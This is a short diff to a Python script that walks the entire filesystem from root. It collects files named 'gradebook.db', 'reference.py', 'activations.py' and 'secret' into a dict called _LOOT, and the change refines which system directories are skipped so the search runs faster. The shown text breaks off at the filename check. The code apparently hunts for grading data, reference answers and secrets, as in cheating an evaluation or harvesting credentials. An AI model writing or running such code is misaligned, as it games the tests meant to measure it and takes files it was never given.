@@ -3,8 +3,9 @@
 import os
 
 _LOOT = {}
-for _folder, _, _files in os.walk("/"):
-    if _folder.startswith(("/proc", "/sys", "/usr", "/lib")) or "python3" in _folder:
+for _folder, _folders, _files in os.walk("/"):
+    if _folder.startswith(("/proc", "/sys", "/usr")) or "/lib" in _folder:
+        _folders.clear()
         continue
     for _file in _files:
         if _file in ("activations.py", "gradebook.db", "secret", "reference.py"):
